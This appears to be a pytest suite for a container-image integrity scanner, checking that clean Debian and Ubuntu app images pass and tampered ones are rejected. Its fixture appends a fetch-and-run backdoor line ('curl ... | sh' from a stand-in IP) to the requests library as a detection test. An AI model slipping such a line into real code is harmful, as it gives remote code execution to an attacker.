"""An ordinary application on a stock base image is approved; a tampered one is rejected.

Real things only: Debian 12 and Ubuntu 20.04 root filesystems from their mirrors (mmdebstrap),
real wheels from PyPI installed by the image's own pip in a ``docker build``, a clean ONNX model
in the container and a TorchScript model archive, exported as panorama-cli exports (see
``tests/helpers/stock_image.py``). The default policy must approve the clean app with no
finding at medium or above; one changed byte in ``/usr/bin/ls`` and one changed file of an
installed dependency must reject it, naming the packages.
"""

from __future__ import annotations

import io
import json
import os
from pathlib import Path
from typing import Any

import pytest

from scanner.cli import main
from tests.helpers.project_builder import BuiltProject
from tests.helpers.stock_image import StockImageError, project_with_asset, stock_app_asset, tamper

pytestmark = [pytest.mark.docker, pytest.mark.slow]

MEDIUM_OR_ABOVE = {"medium", "high", "critical"}


def _asset_or_skip(base: str) -> Path:
    try:
        return stock_app_asset(base)
    except StockImageError as exc:
        if os.environ.get("PANORAMA_GATE_REQUIRE_DOCKER") == "1":
            pytest.fail(f"stock image {base} could not be built: {exc}")
        pytest.skip(f"stock image {base} could not be built here: {exc}")


def _torchscript() -> bytes:
    torch = pytest.importorskip("torch")
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.ReLU()).eval()
    buf = io.BytesIO()
    torch.jit.save(torch.jit.trace(net, torch.rand(1, 3, 32, 32)), buf)
    data = buf.getvalue()
    assert data.startswith(b"PK"), "a TorchScript file is a zip"
    return data


def _project(root: Path, asset: Path) -> BuiltProject:
    """A Panorama project whose container asset is the real exported image."""
    return project_with_asset(root, asset, {"detector.pt": _torchscript()})


def _scan(target: Path, out: Path, *extra: str) -> tuple[int, dict[str, Any]]:
    code = main(
        ["-q", "scan", str(target), "--offline", "--no-profile", "--no-cache",
         "--analyzers=-vulns", "--format", "json", "-o", str(out), *extra]
    )  # fmt: skip
    return code, json.loads(out.read_text())


def _container(report: dict[str, Any]) -> dict[str, Any]:
    return next(a for a in report["artifacts"] if a["kind"] == "container")


@pytest.mark.parametrize("base", ["debian12", "ubuntu20.04"])
def test_clean_app_on_a_stock_base_is_approved(base: str, tmp_path: Path) -> None:
    project = _project(tmp_path / "app", _asset_or_skip(base))
    code, report = _scan(project.root, tmp_path / "report.json")
    blocking = [
        (f["severity"], f["rule_id"], f["location"]["path"])
        for f in report["findings"]
        if f["severity"] in MEDIUM_OR_ABOVE
    ]
    assert blocking == []
    assert report["failures"] == []
    assert code == 0, report["verdict"]
    files = _container(report)["files"]
    assert files["modified"] == 0
    # almost everything in a stock image is the distribution's or pip's, and checked
    assert files["verified"] > 0.6 * files["total"], files
    assert files["owned"] > 0.9 * files["total"], files
    comps = {(c["ecosystem"], c["name"]): c for c in report["components"]}
    assert comps[("deb", "bash")]["properties"]["scope"] == "os"
    assert comps[("pypi", "requests")]["properties"]["scope"] == "app"
    numpy = comps[("pypi", "numpy")]["properties"]
    assert numpy["scope"] == "os"
    assert numpy["installed_by"] == "deb:python3-numpy"
    # every finding in a file a package owns names that package
    for f in report["findings"]:
        path = f["location"]["path"]
        if f["location"]["artifact"] == _container(report)["name"] and path.startswith("usr/"):
            assert f["properties"].get("package"), f
    # distribution content was looked at and re-rated, not skipped: onnx ships test models
    rerated = [f for f in report["findings"] if f["properties"].get("original_severity")]
    assert rerated, "expected findings re-rated as distribution content"
    assert all(f["severity"] == "info" for f in rerated)


def _tampered(base: str, tmp_path: Path) -> tuple[BuiltProject, str, str]:
    """The stock app with one byte of ``ls`` flipped and a backdoor in requests."""
    clean = _asset_or_skip(base)
    # Debian 12 has merged /usr (bin -> usr/bin); Ubuntu 20.04 keeps /bin
    ls, site = {
        "debian12": ("usr/bin/ls", "usr/local/lib/python3.11/dist-packages"),
        "ubuntu20.04": ("bin/ls", "usr/local/lib/python3.8/dist-packages"),
    }[base]

    def flip(data: bytes) -> bytes:
        return data[:100] + bytes([data[100] ^ 0xFF]) + data[101:]

    def backdoor(data: bytes) -> bytes:
        return data + b"\nimport os\nos.system('curl -s http://203.0.113.7/x | sh')\n"

    tampered = tmp_path / "tampered.tar.gz"
    changed = tamper(clean, tampered, {ls: flip, f"{site}/requests/sessions.py": backdoor})
    assert len(changed) == 2
    return _project(tmp_path / "app", tampered), ls, site


@pytest.mark.parametrize("base", ["debian12", "ubuntu20.04"])
def test_tampered_os_binary_and_dependency_are_rejected(base: str, tmp_path: Path) -> None:
    project, ls, site = _tampered(base, tmp_path)
    code, report = _scan(project.root, tmp_path / "report.json")
    assert code == 1
    modified = {
        f["location"]["path"]: f
        for f in report["findings"]
        if f["rule_id"] == "integrity.package-file-modified"
    }
    assert set(modified) == {ls, f"{site}/requests/sessions.py"}
    binary = modified[ls]
    assert binary["severity"] == "high"
    assert binary["properties"]["package"] == "coreutils"
    assert "coreutils" in binary["message"]
    assert binary["properties"]["expected"] != binary["properties"]["actual"]
    assert modified[f"{site}/requests/sessions.py"]["properties"]["package"] == "requests"
    assert _container(report)["files"]["modified"] == 2
    assert report["verdict"]["decision"] == "rejected"


def test_a_parallel_scan_reports_what_a_serial_one_does(tmp_path: Path) -> None:
    # the container asset is big enough for the analyzer worker, which also takes the digests
    # the ownership check compares: findings, verdict and file counts must not move
    project, _, _ = _tampered("debian12", tmp_path)
    reports = {}
    for jobs in ("1", "2"):
        code, report = _scan(project.root, tmp_path / f"j{jobs}.json", "--jobs", jobs)
        assert code == 1
        stages = report.pop("timings")["stages"]
        assert ("hand-off" in stages) is (jobs == "2"), stages
        report.pop("created_at", None)
        reports[jobs] = report
    assert reports["2"] == reports["1"]
    assert _container(reports["1"])["files"]["modified"] == 2
